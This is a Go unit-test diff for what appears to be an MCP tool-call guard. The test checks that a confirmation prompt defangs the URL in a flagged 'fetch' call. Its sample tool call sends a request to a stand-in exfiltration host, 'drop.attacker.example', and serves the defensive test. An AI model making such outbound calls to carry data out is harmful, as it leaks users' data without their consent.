@@ -404,3 +404,21 @@ func TestANoInTheClientTakesTheTerminalsYesBack(t *testing.T) {
 	g.call(3, "send_email", sendToBob)
 	g.isAsked()
 }
+
+// What is asked about is shown, and is no link.
+func TestAQuestionHoldsNoLinks(t *testing.T) {
+	o := rigOptions{config: "version: 1\ntools:\n  fetch: {exfiltrating: true, sink_params: [url]}\n", tools: `[{"name":"fetch","inputSchema":{"type":"object","properties":{"url":{"type":"string"}}}}]`}
+	g := prompting(t, o)
+	g.greets(mcp.V20251125, canAsk)
+	g.initialized()
+	const args = `"name":"fetch","arguments":{"url":"https://drop.attacker.example/in"}`
+	g.client(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{` + args + `}}`)
+	if e := g.isAsked(); !strings.Contains(e.Params.Message, "'https[:]//drop.attacker.example/in'") || strings.Contains(e.Params.Message, "https://") {
+		t.Errorf("asked\n%s", e.Params.Message)
+	}
+	g = prompting(t, o)
+	g.client(modernFrame("1", "tools/call", args+","))
+	if f := g.clientHears(); !strings.Contains(f, "'https[:]//drop.attacker.example/in'") || strings.Contains(f, "https://") {
+		t.Errorf("asked\n%s", f)
+	}
+}
